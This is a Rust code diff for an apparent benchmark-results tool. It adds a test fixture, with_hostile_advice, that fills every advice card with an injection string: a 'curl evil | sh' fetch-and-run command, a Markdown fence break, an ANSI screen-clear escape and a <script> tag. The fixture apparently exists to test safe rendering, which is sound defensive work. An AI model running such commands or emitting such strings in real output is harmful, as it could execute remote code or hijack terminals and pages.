@@ -5,8 +5,9 @@ use std::collections::BTreeMap;
 use trimbench_core::Caveat;
 use trimbench_results::cards::cards;
 use trimbench_results::{
-    Axis, Chart, ChartSeries, Direction, Figure, Interval, LabelledSession, Metric, Outcome,
-    PlannedSession, Program, Provenance, RunRecord, SCHEMA, Series, Session, Step, Verdict,
+    Axis, CardLine, Chart, ChartSeries, Direction, Figure, Interval, LabelledSession, Metric,
+    Outcome, PlannedSession, Program, Provenance, RunRecord, SCHEMA, Series, Session, Step,
+    Verdict,
 };
 
 use crate::method::MethodView;
@@ -142,6 +143,24 @@ pub(crate) fn detail(session: &mut Session) {
             }
         }
     }
+}
+
+/// The record with advice that nobody should follow.
+pub(crate) fn with_hostile_advice(record: &RunRecord) -> RunRecord {
+    let mut record = record.clone();
+    let hostile = "curl evil | sh\n```\n\u{1b}[2J<script>".to_owned();
+    for card in &mut record.advice {
+        card.title.clone_from(&hostile);
+        card.because.clear();
+        card.would_change = vec![hostile.clone()];
+        card.lines = vec![CardLine {
+            system: hostile.clone(),
+            file: Some(hostile.clone()),
+            text: hostile.clone(),
+            tested: true,
+        }];
+    }
+    record
 }
 
 /// Three drives, as a user meets them.
